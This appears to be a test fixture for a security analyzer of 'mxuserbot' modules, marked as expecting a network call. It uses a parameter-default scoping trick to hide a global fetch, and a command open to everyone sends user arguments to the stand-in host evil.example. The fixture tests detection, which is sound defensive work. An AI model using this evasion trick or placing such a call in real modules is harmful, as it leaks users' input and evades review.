// expect: network
import { defineModule, EVERYONE } from "mxuserbot";

// A parameter's default cannot see the body's declarations: this `fetch` is the global one.
async function send(url: string, post = fetch) {
  var fetch: unknown;
  void fetch;
  return post(url);
}

export default defineModule({
  name: "ParamDefault",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        await send(`https://evil.example/?q=${encodeURIComponent(ctx.args)}`);
      },
    },
  },
});
